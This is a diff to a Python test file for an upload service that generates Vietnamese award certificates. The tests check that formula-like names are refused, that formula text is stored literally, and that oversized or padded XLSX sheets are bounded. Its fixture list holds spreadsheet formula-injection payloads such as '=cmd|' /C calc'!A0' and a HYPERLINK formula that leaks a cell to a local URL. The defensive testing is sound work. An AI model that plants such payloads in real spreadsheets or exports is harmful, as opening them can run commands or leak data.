@@ -460,28 +460,37 @@ FORMULAS = ["=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C notepad'!A0", "-2+3+cmd|' 
             '@HYPERLINK("http://127.0.0.1:1/?leak="&A1,"Bấm")', "\t=1+1", "=1+1"]
 
 
+def test_formula_looking_names_are_refused_with_their_row_and_column(client):
+    """A list whose names are formulas was pasted wrongly: each such name is refused with its
+    row and column (names are never formulas); the same text in a position is not a name."""
+    rows = "".join(f'"{v.replace(chr(34), chr(34) * 2)}";Ông;CV\n' for v in FORMULAS)
+    body = refused(client, upload(client, (HEADER + rows).encode(), "ds.csv"), 422,
+                   "validation_failed")
+    assert [(e["row"], e["column"], e["code"]) for e in body["errors"]] == [
+        (row, "recipient_name", "formula_like") for row in range(2, 2 + len(FORMULAS))]
+
+
 def test_formula_looking_cells_are_kept_as_literal_text(client, app):
-    """Nothing here is a spreadsheet: cells are text. "=cmd|…" is stored and printed exactly
+    """Outside names, cells are text. "=cmd|…" in a position is stored and printed exactly
     as typed — never evaluated, never turned into a Word field — and no exported file exists
     that a spreadsheet program would evaluate it in."""
-    rows = "".join(f'"{v.replace(chr(34), chr(34) * 2)}";Ông;{v[:20]}\n' for v in FORMULAS)
+    rows = "".join(f'Nguyễn Văn An;Ông;"{v.replace(chr(34), chr(34) * 2)}"\n' for v in FORMULAS)
     response = upload(client, (HEADER + rows).encode(), "ds.csv", output="zip-docx")
     assert response.status_code == 202, response.get_data(as_text=True)[:500]
     job = response.get_json()
     assert job["total"] == len(FORMULAS)
     stored = app.extensions["thidua_jobs"].files.read_input(job["id"], 1)
-    assert [item.data["recipient_name"] for item in stored] == [v.strip() for v in FORMULAS]
-    assert [item.data["position"] for item in stored] == [v[:20].strip() for v in FORMULAS]
+    assert [item.data["position"] for item in stored] == [v.strip() for v in FORMULAS]
 
     from tests.support.documents import docx_lines
 
     common = json.loads(common_json())
     common.pop("register_start")
-    payload = {**common, "honorific": "ong", "recipient_name": FORMULAS[0],
-               "position": FORMULAS[1][:20]}
+    payload = {**common, "honorific": "ong", "recipient_name": "Nguyễn Văn An",
+               "position": FORMULAS[0]}
     rendered = client.post("/api/v1/documents/certificate.docx", json=payload)
     assert rendered.status_code == 200
-    assert f"Ông {FORMULAS[0]}" in docx_lines(rendered.data)
+    assert FORMULAS[0] in docx_lines(rendered.data)
     document_xml = zipfile.ZipFile(io.BytesIO(rendered.data)).read("word/document.xml")
     assert b"instrText" not in document_xml and b"fldSimple" not in document_xml
 
@@ -497,9 +506,9 @@ def test_formula_text_typed_in_an_xlsx_cell_stays_text(client, app):
     from openpyxl import Workbook
 
     workbook = Workbook()
-    workbook.active.append(["Họ và tên", "Danh xưng"])
-    workbook.active.append([None, "Ông"])
-    cell = workbook.active["A2"]
+    workbook.active.append(["Họ và tên", "Danh xưng", "Chức vụ"])
+    workbook.active.append(["Nguyễn Văn An", "Ông", None])
+    cell = workbook.active["C2"]
     cell.value, cell.data_type = "=cmd|' /C calc'!A0", "s"  # typed as text ('=… in Excel)
     buffer = io.BytesIO()
     workbook.save(buffer)
@@ -508,7 +517,7 @@ def test_formula_text_typed_in_an_xlsx_cell_stays_text(client, app):
     response = upload(client, buffer.getvalue())
     assert response.status_code == 202, response.get_data(as_text=True)[:500]
     stored = app.extensions["thidua_jobs"].files.read_input(response.get_json()["id"], 1)
-    assert stored[0].data["recipient_name"] == "=cmd|' /C calc'!A0"
+    assert stored[0].data["position"] == "=cmd|' /C calc'!A0"
 
 
 # ================================================================ the form itself
@@ -673,7 +682,7 @@ def test_an_xlsx_of_300k_rows_is_refused_without_parsing_the_rest(make_app, monk
 
     def counting_iterparse(source, *args, **kwargs):
         for event, element in real_iterparse(source, *args, **kwargs):
-            if element.tag.endswith("}row"):
+            if event == "end" and element.tag.endswith("}row"):
                 rows_parsed.append(element.get("r"))
             yield event, element
 
@@ -694,3 +703,102 @@ def test_an_upload_over_max_request_bytes(make_app):
     raw = (HEADER + "Nguyễn Văn An;Ông;CV\n" * 10_000).encode()
     body = refused(client, upload(client, raw, "ds.csv"), 413, "payload_too_large")
     assert "100000" in body["detail"]
+
+
+# ================================================================ bounded in work, not only bytes
+
+def _sheet_xml(rows: bytes, dimension: str = "A1:XFD1048576") -> bytes:
+    return (b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+            b'<dimension ref="%s"/><sheetData>' % dimension.encode() + rows
+            + b"</sheetData></worksheet>")
+
+
+def _with_sheet_rows(rows: bytes, **kwargs) -> bytes:
+    return rezip(good_xlsx(), lambda name, data: _sheet_xml(rows, **kwargs)
+                 if name == "xl/worksheets/sheet1.xml" else data)
+
+
+def _data_rows(first: int, last: int) -> bytes:
+    return b"".join(b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>Nguyen Van %d</t></is></c>'
+                    b'<c r="B%d" t="inlineStr"><is><t>Ong</t></is></c></row>' % (r, r, r, r)
+                    for r in range(first, last + 1))
+
+
+HEADER_ROW = ('<row r="1"><c r="A1" t="inlineStr"><is><t>Họ và tên</t></is></c>'
+              '<c r="B1" t="inlineStr"><is><t>Danh xưng</t></is></c></row>').encode()
+
+
+@functools.cache
+def padded_xlsx() -> bytes:
+    """Three data rows, then about a million empty styled rows, declared A1:XFD1048576: the
+    file that kept a worker at full CPU for more than ten minutes."""
+    empty = b"".join(b'<row r="%d" s="0" customFormat="1"><c r="A%d" s="0"/></row>' % (r, r)
+                     for r in range(5, 1_000_005))
+    return _with_sheet_rows(HEADER_ROW + _data_rows(2, 4) + empty)
+
+
+def _cpu_seconds() -> float:
+    import resource
+
+    usage = resource.getrusage(resource.RUSAGE_SELF)
+    return usage.ru_utime + usage.ru_stime
+
+
+@pytest.mark.slow
+def test_a_padded_sheet_is_read_in_seconds_and_leaves_the_worker_idle(client):
+    import threading
+    import time
+
+    raw = padded_xlsx()
+    assert len(raw) < 8_000_000
+    threads = threading.active_count()
+    started = time.monotonic()
+    response = upload(client, raw)
+    assert time.monotonic() - started < 10, "the padded sheet was not answered within 10 s"
+    assert response.status_code == 202, response.get_data(as_text=True)
+    assert response.get_json()["total"] == 3
+    assert threading.active_count() == threads  # nothing left reading in the background
+    before = _cpu_seconds()
+    time.sleep(1.0)
+    assert _cpu_seconds() - before < 0.5, "the process kept working after the answer"
+
+
+def test_reading_stops_after_a_long_run_of_blank_rows(make_app):
+    from service import tabular
+
+    client = client_as(make_app())
+    gap = tabular.BLANK_ROWS_END
+    raw = _with_sheet_rows(HEADER_ROW + _data_rows(2, 3) + _data_rows(4 + gap, 4 + gap),
+                           dimension="A1:B9")
+    response = upload(client, raw)
+    assert response.status_code == 202, response.get_data(as_text=True)
+    assert response.get_json()["total"] == 2
+
+
+def test_too_many_cells_is_refused(make_app, monkeypatch):
+    from service import tabular
+
+    monkeypatch.setattr(tabular, "MAX_SHEET_CELLS", 40)
+    client = client_as(make_app())
+    raw = _with_sheet_rows(HEADER_ROW + _data_rows(2, 30), dimension="A1:B30")
+    body = refused(client, upload(client, raw), 413, "too_many_cells")
+    assert "40" in body["detail"]
+
+
+def test_a_cell_far_to_the_right_is_refused_not_padded_to(make_app):
+    client = client_as(make_app())
+    far = b'<row r="3"><c r="XFD3" t="inlineStr"><is><t>x</t></is></c></row>'
+    raw = _with_sheet_rows(HEADER_ROW + _data_rows(2, 2) + far)
+    body = refused(client, upload(client, raw), 422, "too_many_columns")
+    assert [(e["row"], e["column"]) for e in body["errors"]] == [(3, "XFD")]
+
+
+@pytest.mark.parametrize("kind", ["xlsx", "csv"])
+def test_an_upload_that_outlasts_its_time_budget(make_app, kind):
+    client = client_as(make_app(UPLOAD_READ_TIMEOUT_S=0.001))
+    if kind == "xlsx":
+        raw, name = huge_sheet_xlsx(5_000), "ds.xlsx"
+    else:
+        raw, name = (HEADER + "Nguyễn Văn An;Ông;CV\n" * 5_000).encode(), "ds.csv"
+    body = refused(client, upload(client, raw, name), 413, "upload_too_slow")
+    assert "giây" in body["detail"]
